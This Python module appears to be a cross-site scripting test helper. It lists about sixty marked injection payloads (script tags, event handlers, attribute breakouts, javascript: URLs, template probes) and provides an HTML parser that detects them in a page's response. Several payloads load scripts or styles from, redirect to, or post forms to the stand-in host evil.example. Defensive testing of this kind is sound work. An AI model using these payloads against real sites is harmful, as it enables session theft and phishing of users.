"""What people might type to have a page run it, and how to see in an answer that it would."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Final

# Stands in every payload, as the name of an attribute wherever the payload makes an element of its own.
MARK: Final = "data-zz"
PAYLOADS: Final = (
    f"<script {MARK}>alert(1)</script>",
    f"<SCRIPT {MARK}>alert(1)</SCRIPT>",
    f"<scr\tipt {MARK}>",
    f"<script {MARK} src=//evil.example/x.js></script>",
    f"<script/{MARK}>alert(1)</script>",
    f"</title><script {MARK}>alert(1)</script>",
    f"</textarea><script {MARK}>alert(1)</script>",
    f"</style><script {MARK}>alert(1)</script>",
    f"</script><script {MARK}>alert(1)</script>",
    f"--><script {MARK}>alert(1)</script><!--",
    f"]]><script {MARK}>alert(1)</script>",
    f"<img {MARK} src=x onerror=alert(1)>",
    f"<img {MARK} src=x onerror=alert`1`>",
    f'<img {MARK} src="x" onerror="alert(1)">',
    f"<img {MARK}/src=x/onerror=alert(1)>",
    f"<IMG {MARK} SRC=JaVaScRiPt:alert(1)>",
    f"<svg {MARK} onload=alert(1)>",
    f"<svg/{MARK}/onload=alert(1)>",
    f"<svg {MARK}><animate onbegin=alert(1) attributeName=x></svg>",
    f"<svg {MARK}><script>alert(1)</script></svg>",
    f"<svg {MARK}><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    f"<math {MARK}><mi xlink:href=javascript:alert(1)>x</mi></math>",
    f"<body {MARK} onload=alert(1)>",
    f"<body {MARK} onpageshow=alert(1)>",
    f"<iframe {MARK} src=javascript:alert(1)></iframe>",
    f"<iframe {MARK} srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object {MARK} data=javascript:alert(1)></object>",
    f"<embed {MARK} src=javascript:alert(1)>",
    f"<base {MARK} href=//evil.example/>",
    f"<link {MARK} rel=stylesheet href=//evil.example/x.css>",
    f"<style {MARK}>@import '//evil.example/x.css';</style>",
    f"<meta {MARK} http-equiv=refresh content='0;url=//evil.example'>",
    f"<form {MARK} action=//evil.example><button>Sign in</button></form>",
    f"<button {MARK} formaction=javascript:alert(1)>x</button>",
    f"<input {MARK} autofocus onfocus=alert(1)>",
    f"<select {MARK} autofocus onfocus=alert(1)>",
    f"<textarea {MARK} autofocus onfocus=alert(1)>",
    f"<keygen {MARK} autofocus onfocus=alert(1)>",
    f"<video {MARK}><source onerror=alert(1)></video>",
    f"<audio {MARK} src=x onerror=alert(1)></audio>",
    f"<details {MARK} open ontoggle=alert(1)>",
    f"<marquee {MARK} onstart=alert(1)>x</marquee>",
    f"<div {MARK} style=background:url(javascript:alert(1))>",
    f"<div {MARK} onpointerover=alert(1)>x</div>",
    f"<a {MARK} href=javascript:alert(1)>x</a>",
    f"<a {MARK} href='data:text/html,<script>alert(1)</script>'>x</a>",
    f"<template {MARK}><script>alert(1)</script></template>",
    f"<noscript {MARK}><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    f"<table {MARK} background=javascript:alert(1)>",
    f"<isindex {MARK} action=javascript:alert(1)>",
    f'" {MARK} onmouseover=alert(1) x="',
    f"' {MARK} onmouseover=alert(1) x='",
    f'" autofocus {MARK} onfocus=alert(1) x="',
    f'"><img {MARK} src=x onerror=alert(1)>',
    f"'><img {MARK} src=x onerror=alert(1)>",
    f'"/><svg {MARK} onload=alert(1)>',
    f"\"'><details {MARK} open ontoggle=alert(1)>",
    f'" {MARK} formaction="javascript:alert(1)',
    f"{{{{ '<b {MARK}>' }}}}{{% raw %}}<b {MARK}>{{% endraw %}}",
    f"${{7*7}}<b {MARK}>#{{7*7}}</b>",
)  # fmt: skip


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self._code = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name for name, _value in attrs}
        if MARK in names or any(name.startswith("on") for name in names):
            self.dangers.append(self.get_starttag_text() or tag)
        self._code = tag in {"script", "style"}

    def handle_endtag(self, _tag: str) -> None:
        self._code = False

    def handle_data(self, data: str) -> None:
        if self._code and MARK in data:
            self.dangers.append(f"in code: {data[:80]}")


def dangers(page: str) -> list[str]:
    """The elements of a page that somebody's text made, or that carry code."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.dangers
